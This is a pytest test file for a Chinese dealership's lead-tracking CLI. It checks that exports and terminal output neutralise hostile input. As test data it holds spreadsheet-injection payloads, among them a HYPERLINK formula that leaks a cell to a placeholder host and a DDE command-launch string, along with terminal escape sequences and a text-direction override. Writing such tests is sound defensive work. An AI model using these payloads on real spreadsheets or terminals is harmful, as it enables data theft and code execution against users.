"""What people type is data (issue 17): never a formula in a spreadsheet, never markup or an escape
code on a colleague's terminal, never a value that breaks a later command; and a GBK terminal's
arguments are read as the Chinese they are."""

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from conftest import database, empty_store, sales_floor

HYPERLINK = '=HYPERLINK("http://x/?leak="&C2,"y")'
FORMULAS = [HYPERLINK, "=1+1", "+86 138", "-价格敏感", "@SUM(A1)", "'=已加引号", "''+两个引号"]
ESC_NAME = "E\x1b[31mRED\x1b]8;;http://x\x07"


def export_rows(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


# -- spreadsheets: a formula-looking value stays text, and comes back as typed -----------------------------------


def test_a_customer_named_as_a_formula_is_a_string_cell_in_xlsx_and_csv(lc, tmp_path):
    from openpyxl import load_workbook

    lc.ok("add", HYPERLINK, "--phone", "13800138000", "--notes", "=cmd|' /C calc'!A0")
    lc.ok("log", "13800138000", "--channel", "phone", "--content", "+1 客户说再看看")
    lc.ok("export", "--output", str(tmp_path / "all.xlsx"))
    book = load_workbook(tmp_path / "all.xlsx")
    cards, followups = book["意向客户"], book["跟进记录"]
    headers = [c.value for c in cards[1]]
    name, notes = cards[2][headers.index("姓名")], cards[2][headers.index("备注")]
    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)
    assert (notes.data_type, notes.value) == ("s", "'=cmd|' /C calc'!A0")
    content = followups[2][[c.value for c in followups[1]].index("洽谈内容")]
    assert (content.data_type, content.value) == ("s", "'+1 客户说再看看")
    lc.ok("export", "--output", str(tmp_path / "all.csv"))
    rows = export_rows(tmp_path / "all.csv")
    assert rows[1][rows[0].index("姓名")] == "'" + HYPERLINK
    history = export_rows(tmp_path / "all.followups.csv")
    assert history[1][history[0].index("洽谈内容")] == "'+1 客户说再看看"


def test_plain_values_are_exported_as_they_are(lc, tmp_path):
    lc.ok("add", "张三", "--phone", "13800138000", "--notes", "价格-优惠 = 关键 @周末")
    lc.ok("export", "--output", str(tmp_path / "all.csv"))
    rows = export_rows(tmp_path / "all.csv")
    assert rows[1][rows[0].index("姓名")] == "张三"
    assert rows[1][rows[0].index("备注")] == "价格-优惠 = 关键 @周末"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_looking_names_survive_export_then_import_exactly(lc, tmp_path, fmt):
    for i, name in enumerate(FORMULAS):
        lc.ok("add", f"--phone=1380013800{i}", f"--notes={name}", "--", name)
    lc.ok("export", "--output", str(tmp_path / f"all.{fmt}"))
    other = empty_store(tmp_path / "other.db")
    other.ok("import", str(tmp_path / f"all.{fmt}"))
    back = [other.json("show", c["ref"]) for c in other.json("list")]
    assert sorted((c["name"], c["notes"]) for c in back) == sorted((name, name) for name in FORMULAS)


def test_a_rejects_file_is_inert_and_reads_back_as_the_original(lc, tmp_path):
    sheet = tmp_path / "cards.csv"
    sheet.write_text("姓名,电话\n=1+1,13800138000\n=2+2,not-a-phone\n'=3+3,not-a-phone\n", encoding="utf-8")
    lc.ok("import", str(sheet), "--skip-bad")
    rejects = export_rows(tmp_path / "cards.rejects.csv")
    # Both read back as the originals did (=2+2 and =3+3), neither a formula in Excel.
    assert [row[0] for row in rejects[1:]] == ["'=2+2", "'=3+3"]
    assert [c["name"] for c in lc.json("list")] == ["=1+1"]


def test_a_loss_to_a_formula_named_competitor_reaches_the_report_as_text(lc, tmp_path):
    from openpyxl import load_workbook

    lc.ok("add", "张三", "--phone", "13800138000", "--at", "2026-11-02 10:00", now="2026-11-02T10:00:00")
    lc.ok("lose", "张三", "--reason", "价格", "--competitor", "=HYPERLINK(\"http://x\")|雅阁", now="2026-11-17T10:00:00")
    lc.ok("approve", "张三", now="2026-11-17T18:00:00")
    week = ("report", "weekly", "--week", "2026-W47")
    lc.ok(*week, "--output", str(tmp_path / "w.xlsx"), now="2026-11-25T09:00:00")
    competitors = load_workbook(tmp_path / "w.xlsx")["战败去向（竞品）"]
    assert [c.value for c in competitors[2]] == ["'=HYPERLINK(\"http://x\")|雅阁", 1]
    assert competitors["A2"].data_type == "s"
    rows = list(csv.reader(io.StringIO(lc.ok(*week, "--format", "csv", now="2026-11-25T09:00:00").stdout)))
    assert ["'=HYPERLINK(\"http://x\")|雅阁", "1"] in rows
    md = lc.ok(*week, "--format", "md", now="2026-11-25T09:00:00").stdout
    assert "| =HYPERLINK(\"http://x\")\\|雅阁 | 1 |" in md


# -- terminals: markup is text, escape codes are written out ------------------------------------------------------


def test_a_name_with_markup_is_saved_once_and_shown_as_typed(lc):
    added = lc("add", "李[/]", "--phone", "13800138000")
    assert added.exit_code == 0 and "李[/]" in added.stdout and added.stderr == ""
    assert [c["name"] for c in lc.json("list")] == ["李[/]"]
    assert "李[/]" in lc.ok("show", "13800138000").stdout
    assert "李[/]" in lc.ok("list").stdout


def test_a_hidden_link_in_a_name_or_note_shows_literally(lc):
    link = "[link=http://x]y[/link]"
    lc.ok("add", link, "--phone", "13800138000", "--notes", f"{link} :smile:")
    lc.ok("log", "13800138000", "--channel", "phone", "--content", f"[bold red]{link}")
    shown = lc.ok("show", "13800138000").stdout
    assert link in shown and f"{link} :smile:" in shown and f"[bold red]{link}" in shown
    assert "[link=h…" in lc.ok("list").stdout  # the list's name column is 8 wide
    sales_floor(lc)
    lc.ok("user", "add", "[red]小王[/red]", "--role", "consultant", "--team", "一组")
    assert "[red]小王[/red]" in lc.ok("user", "list").stdout


def hostile_store(lc):
    """A store written before the checks (or by another tool): escape codes already in it."""
    sales_floor(lc)
    lc.ok("add", "张三", "--phone", "13800138000", "--owner", "王芳", "--notes", "备注")
    with database(lc.db) as conn:
        conn.execute("UPDATE cards SET name = ?, notes = ?", (ESC_NAME, "第一行\n第二行\x1b[2J\x9b"))
        conn.execute("UPDATE users SET name = ? WHERE name = '王芳'", ("王\x1b[5m芳",))


def no_escape_code(text):
    return "\x1b" not in text and "\x9b" not in text and "\x07" not in text


def test_escape_codes_in_a_stored_name_are_shown_escaped_in_list_show_today_and_audit(lc):
    hostile_store(lc)
    for line in (("list",), ("show", "13800138000"), ("today", "--all"), ("audit",), ("user", "list"),
                 ("report", "weekly", "--format", "md")):
        result = lc.ok(*line)
        assert no_escape_code(result.stdout + result.stderr), line
    assert "E\\x1b[3…" in lc.ok("list").stdout
    assert "E\\x1b[31mRED\\x1b]8;;http://x\\x07" in lc.ok("show", "13800138000").stdout
    assert "\\x1b[2J\\x9b" in lc.ok("show", "13800138000").stdout
    assert "E\\x1b[3…" in lc.ok("today", "--all", now="2026-05-04T09:00:00").stdout


def test_the_lean_grid_writes_out_escape_codes_and_line_breaks():
    from leadcard.render.grid import Column, Grid

    grid = Grid([Column("客户"), Column("备注", flexible=True)])
    grid.add_row("王\x1b[31m五", "第一行\n第二行")
    grid.add_note([("  ↳ ", "dim")], [("\x9b2J", "")])
    drawn = grid.render(width=80, colour=False)
    assert drawn.splitlines()[2] == "王\\x1b[31m五 第一行\\n第二行"
    assert drawn.splitlines()[3] == "  ↳ \\x9b2J"


def test_a_stored_control_character_does_not_break_an_xlsx_export(lc, tmp_path):
    from openpyxl import load_workbook

    hostile_store(lc)
    lc.ok("export", "--output", str(tmp_path / "all.xlsx"))
    cards = load_workbook(tmp_path / "all.xlsx")["意向客户"]
    assert cards["B2"].value == "E\\x1b[31mRED\\x1b]8;;http://x\\x07"


# -- values are checked before they are saved ---------------------------------------------------------------------


SETUP = [("add", "张三", "--phone", "13800138000")]
TEXT_OPTIONS = {
    "add name": ("add", "{}", "--phone", "13900139000"),
    "add notes": ("add", "李四", "--phone", "13900139000", "--notes", "{}"),
    "add model": ("add", "李四", "--phone", "13900139000", "--model={}"),
    "log content": ("log", "张三", "--channel", "phone", "--content", "{}"),
    "log plan": ("log", "张三", "--channel", "phone", "--content", "沟通", "--plan", "{}"),
    "comment": ("comment", "张三", "{}"),
    "lose note": ("lose", "张三", "--reason", "价格", "--note", "{}"),
    "lose competitor": ("lose", "张三", "--reason", "价格", "--competitor", "{}"),
    "visit add name": ("visit", "add", "--name", "{}", "--phone", "13900139000"),
    "visit add notes": ("visit", "add", "--notes", "{}"),
    "objection add": ("objection", "add", "wait", "{}"),
    "playbook add": ("playbook", "add", "price", "{}"),
    "user add": ("user", "add", "{}", "--role", "manager"),
    "grade reason": ("grade", "张三", "A", "--reason", "{}"),
}


@pytest.mark.parametrize("control", ["\x00", "\x1b[31m", "\x07", "\x9b", "\x7f", "\r"], ids=repr)
@pytest.mark.parametrize("command", TEXT_OPTIONS, ids=str)
def test_a_control_character_in_any_text_is_refused_before_anything_is_saved(lc, command, control):
    for line in SETUP:
        lc.ok(*line)
    before = lc.json("show", "张三")
    line = [arg.replace("{}", f"文字{control}文字") for arg in TEXT_OPTIONS[command]]
    result = lc(*line)
    assert result.exit_code == 2 and "含有控制字符" in result.stderr
    assert result.stderr.count("\n") == 1 and no_escape_code(result.stderr)
    assert lc.json("show", "张三") == before and [c["name"] for c in lc.json("list")] == ["张三"]
    assert lc.json("user", "list") == []


def test_line_breaks_and_tabs_are_kept_in_notes_and_refused_in_names(lc):
    lc.ok("add", "张三", "--phone", "13800138000", "--notes", "第一行\n第二行\t完")
    lc.ok("log", "张三", "--channel", "phone", "--content", "客户说：\n1. 价格\n2. 交车")
    card = lc.json("show", "张三")
    assert card["notes"] == "第一行\n第二行\t完" and card["followups"][0]["content"] == "客户说：\n1. 价格\n2. 交车"
    for name in ("李\n四", "李\t四"):
        refused = lc("add", name, "--phone", "13900139000")
        assert refused.exit_code == 2 and "客户的姓名含有控制字符" in refused.stderr
    assert lc("user", "add", "王\n芳", "--role", "manager").exit_code == 2


def test_an_import_row_with_a_control_character_is_reported_and_nothing_written(lc, tmp_path):
    sheet = tmp_path / "cards.csv"
    sheet.write_bytes("客户姓名,电话,意向车型\n王五,13700137000,凯美\x1b瑞\n赵六,13600136000,\"第一行\r\n第二行\"\n".encode())
    result = lc("import", str(sheet), "--json")
    failed = result.json()
    assert result.exit_code == 1 and failed["written"] is False
    assert [(e["part"], e["line"]) for e in failed["errors"]] == [("意向客户", 2)]
    # The column named as the file names it, in the reader's language.
    assert failed["errors"][0]["reason"] == "列「意向车型」含有控制字符（\\x1b）：请输入纯文本"
    english = lc("import", str(sheet), "--json", env={"LEADCARD_LANG": "en"}).json()
    assert english["errors"][0]["reason"].startswith("column 「意向车型」 ")
    assert lc.json("list") == []
    lc.ok("import", str(sheet), "--skip-bad")
    assert lc.json("show", "赵六")["model"] == "第一行\n第二行"


@pytest.mark.parametrize("line", [
    ("visit", "add", "--left", "9999-12-31 23:59"),
    ("add", "李四", "--phone", "13900139000", "--at", "1899-12-31"),
    ("add", "李四", "--phone", "13900139000", "--left", "1899-12-31 23:59"),
    ("log", "张三", "--channel", "phone", "--content", "沟通", "--next", "2200-01-01"),
    ("log", "张三", "--channel", "phone", "--content", "沟通", "--next", "2199-12-31T23:59+00:00"),
    ("today", "--date", "9999-01-01"),
    ("audit", "--date", "0001-01-01"),
    ("report", "weekly", "--week", "9999-W52"),
    ("report", "monthly", "--month", "9999-12"),
    ("report", "monthly", "--month", "0000-01"),
], ids=" ".join)
def test_dates_outside_the_years_a_record_may_carry_are_bad_input(lc, line):
    lc.ok("add", "张三", "--phone", "13800138000")
    before = lc.json("show", "张三")
    result = lc(*line)
    assert result.exit_code == 2, result.stderr
    assert result.stderr.startswith(("leadcard: 不是", "leadcard: 记录不能用")) and "Traceback" not in result.stderr
    assert lc.json("show", "张三") == before and len(lc.json("list")) == 1


def test_the_last_and_first_years_a_record_may_carry_are_accepted_and_read_back(lc):
    lc.ok("add", "张三", "--phone", "13800138000", "--at", "1900-01-01 09:00")
    lc.ok("log", "张三", "--channel", "phone", "--content", "沟通", "--next", "2199-12-31 23:59")
    assert lc.json("show", "张三")["followups"][0]["next_at"].startswith("2199-12-31T23:59")
    for line in (("audit",), ("today", "--all"), ("list",), ("report", "weekly")):
        lc.ok(*line)


def test_an_imported_date_outside_those_years_is_a_bad_row(lc, tmp_path):
    sheet = tmp_path / "cards.csv"
    sheet.write_text("姓名,电话,建卡时间\n张三,13800138000,9999-12-31 23:59\n李四,13900139000,1899/12/31\n",
                     encoding="utf-8")
    result = lc("import", str(sheet), "--json")
    failed = result.json()
    # Each reason names the date's column first.
    assert result.exit_code == 1 and [(e["line"], e["reason"].split("：")[:2]) for e in failed["errors"]] == [
        (2, ["建卡时间", "记录不能用这个日期"]), (3, ["建卡时间", "记录不能用这个日期"])]
    assert lc.json("list") == []


# -- a GBK terminal ---------------------------------------------------------------------------------------------


def run_bytes(*args, env):
    """The program given the bytes a GBK terminal sends, under a UTF-8 locale."""
    environment = {k: v for k, v in os.environ.items() if not k.startswith("LEADCARD_")}
    environment.update(env, PYTHONUTF8="1")
    return subprocess.run([sys.executable, "-m", "leadcard", *args], capture_output=True, env=environment,
                          timeout=120)


def test_arguments_typed_on_a_gbk_terminal_are_read_as_chinese(tmp_path):
    env = {"LEADCARD_DB": str(tmp_path / "s.db"), "LEADCARD_NOW": "2026-05-03T10:00:00"}
    assert run_bytes("init", env=env).returncode == 0
    added = run_bytes("add", "张三".encode("gbk"), "--phone", "13800138000", "--model", "凯美瑞".encode("gbk"), env=env)
    assert added.returncode == 0, added.stderr.decode()
    assert "张三" in added.stdout.decode()
    found = json.loads(run_bytes("list", "--search", "张".encode("gbk"), "--json", env=env).stdout)
    assert [(c["name"], c["model"]) for c in found] == [("张三", "凯美瑞")]


def test_a_file_named_in_gbk_bytes_is_opened_as_named(tmp_path):
    env = {"LEADCARD_DB": str(tmp_path / "s.db"), "LEADCARD_NOW": "2026-05-03T10:00:00"}
    sheet = os.fsencode(tmp_path) + b"/" + "客户名单.csv".encode("gbk")
    with open(sheet, "wb") as f:
        f.write("姓名,电话\n李四,13900139000\n".encode("utf-8"))
    imported = run_bytes("import", sheet, env=env)
    assert imported.returncode == 0, imported.stderr.decode()
    assert [c["name"] for c in json.loads(run_bytes("list", "--json", env=env).stdout)] == ["李四"]


def test_bytes_that_are_neither_utf8_nor_gbk_are_bad_input(tmp_path):
    env = {"LEADCARD_DB": str(tmp_path / "s.db"), "LEADCARD_NOW": "2026-05-03T10:00:00"}
    run_bytes("init", env=env)
    refused = run_bytes("add", b"\xff\xfe", "--phone", "13800138000", env=env)
    assert refused.returncode == 2 and b"Traceback" not in refused.stderr
    assert "既不是 UTF-8 也不是 GBK".encode() in refused.stderr


def test_a_name_typed_in_gbk_is_text_even_where_a_file_bears_its_bytes(tmp_path):
    """A folder named after a consultant, in the folder a command is run from: her name typed on a
    GBK terminal is still her name, for --as, a card's name or a search."""
    env = {"LEADCARD_DB": str(tmp_path / "s.db"), "LEADCARD_NOW": "2026-05-03T10:00:00"}
    assert run_bytes("init", env=env).returncode == 0
    assert run_bytes("user", "add", "王芳", "--role", "consultant", env=env).returncode == 0
    os.mkdir(os.fsencode(tmp_path) + b"/" + "王芳".encode("gbk"))
    os.mkdir(os.fsencode(tmp_path) + b"/" + "张三".encode("gbk"))
    for args in (("--as", "王芳".encode("gbk"), "add", "张三".encode("gbk"), "--phone", "13800138000"),
                 ("--as", "王芳".encode("gbk"), "list", "--search", "张三".encode("gbk"), "--json"),
                 ("--as", "王芳".encode("gbk"), "show", "张三".encode("gbk"), "--json")):
        done = subprocess.run([sys.executable, "-m", "leadcard", *args], capture_output=True, cwd=tmp_path,
                              env={**{k: v for k, v in os.environ.items() if not k.startswith("LEADCARD_")},
                                   **env, "PYTHONUTF8": "1"}, timeout=120)
        assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr.decode()
    card = json.loads(done.stdout)
    assert (card["name"], card["owner"]) == ("张三", "王芳")


def test_a_file_named_in_gbk_after_the_imports_flags_is_opened_as_named(tmp_path):
    env = {"LEADCARD_DB": str(tmp_path / "s.db"), "LEADCARD_NOW": "2026-05-03T10:00:00"}
    sheet = os.fsencode(tmp_path) + b"/" + "客户名单.csv".encode("gbk")
    with open(sheet, "wb") as f:
        f.write("姓名,电话\n李四,13900139000\n".encode("utf-8"))
    checked = run_bytes("import", "--dry-run", sheet, env=env)
    assert checked.returncode == 0, checked.stderr.decode()
    assert run_bytes("import", "--skip-bad", sheet, env=env).returncode == 0
    assert [c["name"] for c in json.loads(run_bytes("list", "--json", env=env).stdout)] == ["李四"]


def test_the_acting_user_set_in_the_environment_from_a_gbk_terminal_is_read_as_chinese(tmp_path):
    env = {"LEADCARD_DB": str(tmp_path / "s.db"), "LEADCARD_NOW": "2026-05-03T10:00:00"}
    assert run_bytes("init", env=env).returncode == 0
    assert run_bytes("user", "add", "赵经理", "--role", "manager", env=env).returncode == 0
    assert run_bytes("--as", "赵经理", "user", "add", "王芳", "--role", "consultant", env=env).returncode == 0
    gbk = dict(env, LEADCARD_USER="王芳".encode("gbk"))
    for args in (("add", "张三", "--phone", "13800138000"), ("today",), ("list", "--json")):
        done = run_bytes(*args, env=gbk)
        assert done.returncode == 0, done.stderr.decode()
    assert [c["owner"] for c in json.loads(done.stdout)] == ["王芳"]
    for command in (("today",), ("list",)):  # the lean morning list and typer's commands alike
        refused = run_bytes(*command, env=dict(env, LEADCARD_USER=b"\xff\xfe"))
        assert refused.returncode == 2 and refused.stdout == b""
        assert refused.stderr.decode() == "leadcard: 环境变量 LEADCARD_USER 的值既不是 UTF-8 也不是 GBK/GB18030 文本\n"


@pytest.mark.skipif(os.name == "nt", reason="pseudo-terminals are POSIX")
def test_a_direction_override_is_written_out_when_a_file_is_shown_on_a_terminal_and_kept_in_the_file(lc, tmp_path):
    from conftest import on_a_terminal

    if not isinstance(lc.db, os.PathLike):
        pytest.skip("a pseudo-terminal on the SQLite file's command")
    lc.ok("user", "add", "王\u202e芳", "--role", "consultant")
    lc.ok("add", "王\u202e芳", "--phone", "13800138000", "--grade", "A", user="王\u202e芳", now="2026-04-22T10:00:00")
    for args in (("export", "--format", "csv"), ("report", "weekly", "--format", "csv")):
        screen = on_a_terminal(lc.db, *args, "--no-pager", check=True, env={"LEADCARD_USER": "王\u202e芳"})
        assert "\u202e" not in screen and "王\\u202e芳" in screen, args
    piped = lc.ok("export", "--format", "csv", user="王\u202e芳").stdout  # a file (or a pipe) keeps what was typed
    assert "王\u202e芳" in piped
